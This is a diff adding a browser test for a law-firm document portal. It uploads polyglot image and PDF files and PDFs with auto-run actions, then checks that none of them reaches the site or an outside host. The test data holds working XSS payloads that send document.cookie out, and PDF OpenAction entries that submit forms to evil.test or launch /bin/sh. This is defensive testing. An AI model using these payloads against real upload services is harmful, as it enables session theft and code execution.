@@ -1,0 +1,126 @@
+/** Files made to run something: whatever is in them, the portal's own origin is never reached. */
+import { pdfOf } from '#test/pdf.ts';
+import { expect, test } from '../test.ts';
+import { sendFile } from '../pages/documents.ts';
+
+const REACH = `fetch('/reached?by='+encodeURIComponent(document.cookie));try{top.location='/reached'}catch(e){};alert(1)`;
+/** What runs if a browser takes the bytes for something else than they were stored as. */
+const PAYLOADS: Record<string, string> = {
+  html: `<html><body><script>${REACH}</script></body></html>`,
+  image: `<img src=x onerror="${REACH}"><svg onload="${REACH}"></svg>`,
+  svg: `<svg xmlns="http://www.w3.org/2000/svg"><script>${REACH}</script></svg>`,
+  xml: `<?xml version="1.0"?><?xml-stylesheet href="/reached"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${REACH}</h:script></x>`,
+  refresh: `<meta http-equiv="refresh" content="0;url=/reached"><base href="//evil.test/"><form action="/reached"><button autofocus>`,
+  script: `*/=1;${REACH};/*`,
+};
+const bytes = (text: string, pad = 0) => Buffer.concat([Buffer.from(text, 'latin1'), Buffer.alloc(pad)]);
+/** Heads by which each is accepted as what its name says. */
+const CONTAINERS: Record<string, (payload: string) => Buffer> = {
+  'a.pdf': (payload) => bytes(`%PDF-1.7\n${payload}\n%%EOF`),
+  'a.gif': (payload) => Buffer.concat([bytes('GIF89a/*'), bytes(payload)]),
+  'a.png': (payload) =>
+    Buffer.concat([
+      Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'),
+      bytes(payload),
+    ]),
+  'a.jpg': (payload) =>
+    Buffer.concat([
+      Buffer.from('ffd8fffe', 'hex'),
+      Buffer.from([(payload.length + 2) >> 8, (payload.length + 2) & 255]),
+      bytes(payload),
+      Buffer.from('ffc0000b080001000101011100ffd9', 'hex'),
+    ]),
+  'a.bmp': (payload) => {
+    const head = Buffer.alloc(54);
+    head.write('BM', 0, 'latin1');
+    head.writeUInt32LE(40, 14);
+    head.writeInt32LE(1, 18);
+    head.writeInt32LE(1, 22);
+    return Buffer.concat([head, bytes(payload)]);
+  },
+};
+const js = `this.submitForm('https://evil.test/reached');app.alert('reached');app.launchURL('https://evil.test/reached',true)`;
+/** PDFs that act when they are opened, or when something in them is pressed. */
+const ACTING: Record<string, string> = {
+  'open-script.pdf': `/OpenAction<</S/JavaScript/JS(${js.replaceAll(/[()\\]/g, String.raw`\$&`)})>>`,
+  'named-script.pdf': `/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>`,
+  'open-uri.pdf': '/OpenAction<</S/URI/URI(https://evil.test/reached)>>',
+  'launch.pdf': '/OpenAction<</S/Launch/F(/bin/sh)>>',
+  'submit.pdf': '/OpenAction<</S/SubmitForm/F(https://evil.test/reached)>>',
+  'remote.pdf': '/OpenAction<</S/GoToR/F(https://evil.test/reached.pdf)/D[0/Fit]>>',
+  'xfa.pdf':
+    '/AcroForm<</XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert\\(1\\)</script></xdp:xdp>)>>',
+  'closing.pdf': '/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>/WS<</S/JavaScript/JS(app.alert\\(1\\))>>>>',
+};
+
+const SHOW_IN_PAGE = `for (const kind of ['img', 'iframe']) {
+  const element = document.createElement(kind);
+  element.src = 'ADDRESS';
+  document.body.append(element);
+}`;
+
+test('thirty active files are opened by their links and in the viewer, and reach nothing', async ({
+  page,
+  firm,
+}) => {
+  test.setTimeout(120_000);
+  const maria = await firm.client({ entity: `Delgado ${firm.slug}` });
+  const { id: companyId, hash } = maria.entity;
+  const put = (url: string, data: Buffer) => page.request.put(url, { data });
+  const reached: string[] = [];
+  const watch = (watched: typeof page) => {
+    watched.on('dialog', (dialog) => {
+      reached.push(`dialog ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    watched.on('request', (request) => {
+      const url = new URL(request.url());
+      if (url.hostname === 'evil.test' || url.pathname.startsWith('/reached')) reached.push(request.url());
+    });
+  };
+  watch(page);
+  page.context().on('page', watch);
+  await firm.signIn(page, firm.partner, `/admin/${hash}/documents`);
+
+  const taken: { id: number; name: string }[] = [];
+  for (const [name, make] of Object.entries(CONTAINERS))
+    for (const [kind, payload] of Object.entries(PAYLOADS)) {
+      const file = { companyId, name: `${kind} ${name}`, bytes: make(payload) };
+      // Some are refused at the door, which is as well.
+      const id = await sendFile(firm.call, put, file).catch(() => null);
+      if (id !== null) taken.push({ id, name: file.name });
+    }
+  for (const [name, catalog] of Object.entries(ACTING))
+    taken.push({
+      id: await sendFile(firm.call, put, { companyId, name, bytes: pdfOf({ pages: [[name]], catalog }) }),
+      name,
+    });
+  expect(taken.length).toBeGreaterThanOrEqual(30);
+
+  const tab = await page.context().newPage();
+  for (const { id } of taken) {
+    const link = await page.evaluate(async (document) => {
+      const fresh = await fetch('/api/session/refresh', { method: 'POST' });
+      const { access_token } = (await fresh.json()) as { access_token: string };
+      const answer = await fetch(`/api/documents/${document}/link`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${access_token}`, 'content-type': 'application/json' },
+        body: JSON.stringify({ disposition: 'inline' }),
+      });
+      return ((await answer.json()) as { url: string }).url;
+    }, id);
+    await tab.goto(link).catch(() => undefined);
+    // As a picture and a frame of the page itself.
+    await page.evaluate(SHOW_IN_PAGE.replace('ADDRESS', link));
+  }
+  await tab.close();
+
+  for (const { id, name } of taken.filter((file) => file.name.endsWith('.pdf'))) {
+    await page.goto(`/admin/${hash}/documents?file=${id}&previewName=${encodeURIComponent(name)}`);
+    const viewer = page.getByRole('dialog', { name });
+    await expect(
+      viewer.locator('canvas[data-drawn]').first().or(viewer.getByText('Failed to load PDF file')),
+    ).toBeVisible();
+  }
+  expect(reached).toEqual([]);
+});
